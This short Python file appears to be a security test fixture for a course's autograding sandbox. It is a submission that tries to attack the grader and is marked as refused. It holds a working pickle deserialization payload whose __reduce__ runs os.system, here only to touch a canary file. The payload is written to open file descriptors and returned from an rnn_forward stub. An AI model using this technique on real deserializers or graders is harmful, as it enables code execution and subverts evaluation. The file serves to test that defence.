# Tries: to send a pickle instead of an answer, to every descriptor that it finds.
# Earns: nothing
# Status: refused
# Says: was not written by the sandbox

# %%
import os
import pickle
import struct


class Reduced:
    def __reduce__(self):
        return (os.system, ("touch @CANARY@/course-attack-pickle",))


def send():
    bomb = pickle.dumps([Reduced()])
    for number in range(3, 30):
        try:
            os.write(number, struct.pack(">I", len(bomb)) + bomb)
        except OSError:
            pass
    return 1


SENT = send()


# %%
def rnn_forward(x, h_0, W_hx, W_hh, b_h, sent=SENT):
    return pickle.dumps(Reduced())
